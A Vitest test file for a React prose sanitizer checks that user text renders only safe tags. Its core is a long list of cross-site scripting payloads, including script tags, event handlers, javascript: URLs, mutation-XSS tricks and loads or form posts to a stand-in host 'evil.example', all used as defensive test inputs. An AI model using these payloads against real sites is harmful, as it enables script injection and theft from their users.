import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { Prose, proseHtml } from '../../../app/ui/prose'

/** All that a page may ever hold of what somebody wrote: text without a "<", entities, eight tags, `start` on lists. */
const harmless =
  /^(?:[^<>&]|&(?:amp|lt|gt|quot|#\d+);|<(?:\/?(?:p|em|strong|ul|ol|li|blockquote)|br \/|ol start="\d{1,9}")>)*$/

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<script/src=data:,alert(1)>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)">',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><desc><noscript><style></desc><img src=x onerror=alert(1)></style></noscript>',
  '<math><mtext></p><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math href="javascript:alert(1)">here</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">here</a>',
  '<a href="java\tscript:alert(1)">here</a>',
  '<a href="&#106;&#97;vascript:alert(1)">here</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">here</a>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">here</p>',
  '<p onclick="alert(1)" class="card" id="main">here</p>',
  '<p onmouseover=alert(1)//>here',
  '<em onfocus=alert(1) tabindex=0 autofocus>here</em>',
  '<ol start="1" onclick="alert(1)"><li>here</ol>',
  '<details open ontoggle=alert(1)>here</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<input onfocus=alert(1) autofocus>',
  '<button formaction="javascript:alert(1)">here</button>',
  '<form action="//evil.example"><input name=key></form>',
  '<table background="javascript:alert(1)"><tr><td>',
  '<marquee onstart=alert(1)>here</marquee>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?php echo 1 ?>',
  '<!DOCTYPE html><html><head>',
  '</p></div></section></main><h1>Signed out: type your key</h1>',
  '<custom-element onclick=alert(1)></custom-element>',
  '<template><script>alert(1)</script></template>',
  '<slot name=x></slot><portal src=//evil.example></portal>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&amp;lt;script&amp;gt;',
  '\\<script>alert(1)\\</script>',
  '[here](javascript:alert(1))',
  '![x](x" onerror="alert(1))',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '*<img src=x onerror=alert(1)>* **<b>bold</b>**',
  '> <script>alert(1)</script>\n> - <img src=x onerror=alert(1)>',
  '1. <img src=x onerror=alert(1)>\n2. "onclick=alert(1)',
  '999999999999999999999. here',
  '```html\n<script>alert(1)</script>\n```',
  '    <script>alert(1)</script>',
  '\u0000<\u0000script>alert(1)</script>',
  '<\u200bscript>alert(1)</script>',
  '\u2028<script>\u2029alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
  '<p',
  '<',
  '<a href="',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
]

describe('what people write', () => {
  it.each(hostile)('does nothing on a page: %j', text => {
    expect(proseHtml(text)).toMatch(harmless)
  })

  it('keeps every letter of it as text', () => {
    expect(proseHtml('<b onclick="x">a & b</b>')).toBe(
      '<p>&lt;b onclick=&quot;x&quot;&gt;a &amp; b&lt;/b&gt;</p>\n',
    )
  })

  it('does nothing in the forms that a post takes when two hostile ones meet', () => {
    for (const one of hostile)
      for (const other of ['> ', '- ', '*', '\\', '<', '\n\n'])
        expect(proseHtml(other + one)).toMatch(harmless)
    expect(proseHtml(hostile.join('\n'))).toMatch(harmless)
    expect(proseHtml(hostile.join(''))).toMatch(harmless)
  })
})

describe('a few signs', () => {
  it.each([
    ['one\n\ntwo', '<p>one</p>\n<p>two</p>\n'],
    ['one\ntwo', '<p>one<br />\ntwo</p>\n'],
    ['*so* **much**', '<p><em>so</em> <strong>much</strong></p>\n'],
    ['- one\n- two', '<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n'],
    ['3. three\n4. four', '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>\n'],
    ['> said', '<blockquote>\n<p>said</p>\n</blockquote>\n'],
    ['\\*not\\*', '<p>*not*</p>\n'],
    [
      '# 1 `code` [link](https://a.example) https://b.example',
      '<p># 1 `code` [link](https://a.example) https://b.example</p>\n',
    ],
  ])('make paragraphs, stress, lists and quotes, and nothing else: %j', (text, html) => {
    expect(proseHtml(text)).toBe(html)
  })

  it.each([
    '> '.repeat(3_000),
    '- '.repeat(3_000),
    '*'.repeat(10_000),
    '*a '.repeat(3_000),
    '**a* '.repeat(2_000),
    '\\'.repeat(10_000),
    '<'.repeat(10_000),
    `${'> '.repeat(200)}a`,
  ])('nest only so deep and take no time, whatever is typed', text => {
    const start = performance.now()
    const html = proseHtml(text)
    expect(performance.now() - start).toBeLessThan(2_000)
    expect(html).toMatch(harmless)
    expect(html.match(/<blockquote>|<ul>/g)?.length ?? 0).toBeLessThanOrEqual(20)
  })

  it('stand in one plain box on a page', () => {
    expect(renderToStaticMarkup(<Prose text="*so*" />)).toBe(
      '<div class="prose" dir="auto"><p><em>so</em></p>\n</div>',
    )
  })
})
